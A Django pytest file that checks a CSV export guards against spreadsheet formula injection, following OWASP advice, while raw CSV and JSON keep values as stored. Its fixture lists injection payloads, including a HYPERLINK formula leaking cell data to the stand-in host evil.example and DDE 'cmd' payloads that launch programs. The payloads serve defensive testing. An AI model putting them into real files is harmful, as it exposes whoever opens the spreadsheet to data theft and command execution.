"""CSV exports are safe to open: the spreadsheet CSV neutralises formulas as OWASP
advises and says so; the raw CSV and the JSON keep every value as it is."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from annotations.models import Claim
from parallax.exports import neutralise
from tests.factories import make_annotation, make_article, make_claim

pytestmark = pytest.mark.django_db

HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def claim():
    article = make_article()
    claim = make_claim(story=article.story, status=Claim.Status.PUBLISHED)
    for note in HOSTILE_NOTES:
        make_annotation(article, "memo shows", claim=claim, note=note)
    return claim


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_the_spreadsheet_csv_neutralises_every_formula(claim):
    response = Client().get(reverse("reading:claim-csv", args=[claim.slug]))
    assert response.status_code == 200
    notes = sorted(row["note"] for row in rows(response))
    assert notes == sorted("'" + note for note in HOSTILE_NOTES)
    # Every cell quoted, as OWASP advises.
    assert response.content.decode().splitlines()[0].startswith('"outlet","outlet_slug"')


def test_the_raw_csv_and_the_json_keep_values_as_they_are(claim):
    raw = Client().get(reverse("reading:claim-raw-csv", args=[claim.slug]))
    assert raw.status_code == 200
    assert 'filename="' + claim.slug + '-raw.csv"' in raw["Content-Disposition"]
    assert sorted(row["note"] for row in rows(raw)) == sorted(HOSTILE_NOTES)
    data = Client().get(reverse("reading:claim-json", args=[claim.slug])).json()
    assert sorted(e["note"] for e in data["excerpts"]) == sorted(HOSTILE_NOTES)


def test_the_claim_page_says_which_csv_is_which(claim):
    page = Client().get(claim.get_absolute_url()).content.decode()
    assert reverse("reading:claim-raw-csv", args=[claim.slug]) in page
    assert "so that it is never run as a formula" in page
    assert "exactly as stored" in page


def test_plain_values_are_untouched():
    assert neutralise("The memo shows it") == "The memo shows it"
    assert neutralise("") == ""
    assert neutralise("a=b") == "a=b"
